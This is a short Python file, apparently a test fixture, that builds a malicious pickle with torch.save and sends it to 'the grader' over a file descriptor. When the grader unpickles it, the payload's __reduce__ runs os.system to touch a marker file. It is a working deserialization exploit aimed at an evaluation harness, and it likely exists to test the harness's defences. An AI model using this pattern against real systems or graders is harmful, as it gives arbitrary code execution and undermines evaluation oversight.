"""Answer the grader with a hand-made frame holding a malicious pickle (it would run code in the
grader's process if the grader unpickled it), then stay silent."""


def attack(*args):
    import io
    import os
    import struct
    import sys
    import time

    import torch

    class Payload:
        def __reduce__(self):
            return (os.system, ("touch @MARK@.pwned",))

    buf = io.BytesIO()
    torch.save({"ok": True, "value": Payload()}, buf)
    data = buf.getvalue()
    os.write(int(sys.argv[2]), struct.pack(">Q", len(data)) + data)
    time.sleep(60)
